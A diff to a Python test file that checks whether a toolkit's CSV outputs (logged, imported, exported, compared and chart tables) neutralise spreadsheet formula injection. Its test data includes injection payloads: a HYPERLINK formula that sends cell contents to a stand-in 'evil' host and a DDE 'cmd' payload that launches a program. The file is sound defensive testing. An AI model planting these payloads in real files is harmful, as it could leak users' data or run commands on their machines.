@@ -4,17 +4,25 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 import zipfile
+from pathlib import Path
 
 import numpy as np
 
 from dashboard.data import export
+from dashboard.data.curve_csv import CurvePoints, curves_to_csv
+from dashboard.data.run_store import CurveSegment, Series
 from tests.lengths import is_long
 from toolkit.cli.main import main
+from toolkit.exchange.kept_files import file_keeper
+from toolkit.importers.source import Event
+from toolkit.runfolder import columns as table_columns
 from toolkit.runfolder.csv_table import SHORT
 from toolkit.runfolder.repair import build_table
 from toolkit.telemetry import TelemetryLogger
 
+ROOT = Path(__file__).parents[2]
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 AFTER = ('HYPERLINK("http://evil/?"&A1)', '"\n=2', "cmd|' /C calc'!A0", "1+1", ";=3", ",=4")
 FORMULAS = tuple(
@@ -37,8 +45,8 @@ def cells_of(text):
     return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
 
 
-def test_no_cell_and_no_header_of_any_table_is_a_formula(tmp_path, record_property):
-    """The mirror as it grows, built again, in a bundle, and what the pages give to download."""
+def test_no_cell_and_no_header_of_any_table_is_a_formula(tmp_path, capsys, record_property):
+    """Our own table as it grows, built again, shared, downloaded, exported, compared; logged and imported tables."""
     metrics = {f"{formula}{number}": 1.5 for number, formula in enumerate(FORMULAS)}
     with TelemetryLogger("r", log_dir=tmp_path / "logs", system=False, log_every=1, csv="all") as log:
         for step, formula in enumerate(FORMULAS):
@@ -46,6 +54,8 @@ def test_no_cell_and_no_header_of_any_table_is_a_formula(tmp_path, record_proper
             name = f"{formula}{step}"
             log.log_step(step, {name: 1.5, "text": formula})
         log.log_start(config={formula: formula for formula in FORMULAS[:20]})
+        log.log_table("rows", [{formula: formula, "value": -0.5} for formula in FORMULAS[:60]])
+        log.log_table("columns", {formula: [formula, b"\t=1", [formula]] for formula in FORMULAS[:60]})
     tables = {"mirror": (log.run_folder / "metrics.csv").read_text("utf-8")}
     build_table(log.run_folder / "metrics.jsonl", tmp_path / "again.csv")
     tables["built again"] = (tmp_path / "again.csv").read_text("utf-8")
@@ -55,6 +65,25 @@ def test_no_cell_and_no_header_of_any_table_is_a_formula(tmp_path, record_proper
     with zipfile.ZipFile(tmp_path / "b.zip") as archive:
         (name,) = [name for name in archive.namelist() if name.endswith("metrics.csv")]
         tables["bundle"] = archive.read(name).decode("utf-8")
+    for number, path in enumerate((log.run_folder / "tables").iterdir()):
+        tables[f"logged {number}"] = path.read_text("utf-8")
+    keep = file_keeper(None, tmp_path)
+    rows = [{formula: formula} for formula in FORMULAS[:60]]
+    tables["imported"] = (tmp_path / keep(Event(kind="table", payload=rows))["path"]).read_text("utf-8")
+    for form in ("--wide", None):
+        out = tmp_path / f"exported{form}.csv"
+        given = ["export", str(log.run_folder), "--to", "csv", "--out", str(out)]
+        assert main([*given, *([form] if form else [])]) == 0
+        tables[f"exported {form}"] = out.read_text("utf-8")
+    with TelemetryLogger("=1+1", log_dir=tmp_path / "logs", system=False) as other:
+        other.log_start(config={formula: f"{formula}2" for formula in FORMULAS[:20]})
+    capsys.readouterr()
+    assert main(["compare", str(log.run_folder), str(other.run_folder), "--to", "csv"]) == 0
+    tables["compared"] = capsys.readouterr().out
+    segment = CurveSegment(x=np.array([1.0]), y=np.array([-1.5]), session=1)
+    series = [Series(metric=formula, axis="step", segments=(segment,)) for formula in FORMULAS]
+    curves = [CurvePoints(run=one.metric, series=one) for one in series]
+    tables["chart"] = curves_to_csv(curves, "step", None).decode("utf-8")
     columns = {name: np.array([1.5, -2.5, -np.inf]) for name in metrics}
     tables["download"] = export.to_csv(columns).decode("utf-8")
     found = {
@@ -64,7 +93,30 @@ def test_no_cell_and_no_header_of_any_table_is_a_formula(tmp_path, record_proper
 
     assert found == {name: [] for name in tables}
     assert "-2.5" in tables["download"], "a number stays one"
+    assert ",-1.5,0" in tables["chart"]
+    assert ",-0.5," in tables["logged 0"] + tables["logged 1"]
+    assert len(tables) == 12
     count = sum(len(cells_of(text)) for text in tables.values())
     record_property(
         "measured", f"{count:,} cells of {len(FORMULAS)} formulas in {len(tables)} tables, 0 would run"
     )
+
+
+def test_every_table_is_written_by_the_function_that_marks_formulas():
+    sources = [path for room in ("toolkit", "dashboard") for path in (ROOT / room).rglob("*.py")]
+    writers = re.compile(r"\b(?:csv\.(?:Dict)?[wW]riter|\w*csv\.write_csv|\.to_csv|write_csv)\(")
+    found = {
+        path.relative_to(ROOT).as_posix(): sorted(set(writers.findall(path.read_text("utf-8"))))
+        for path in sources
+    }
+
+    assert {name: calls for name, calls in found.items() if calls and calls != ["write_csv("]} == {
+        "toolkit/runfolder/columns.py": ["csv.writer(", "write_csv("],
+        # The body of a download: columns of numbers alone.
+        "dashboard/data/export.py": ["pa_csv.write_csv(", "write_csv("],
+    }
+
+
+def test_scripts_of_pages_know_the_same_beginnings():
+    for script in ("toolkit/reports/report.js", "dashboard/components/chart.js"):
+        assert f"/^{table_columns._FORMULA.pattern}/" in (ROOT / script).read_text("utf-8")
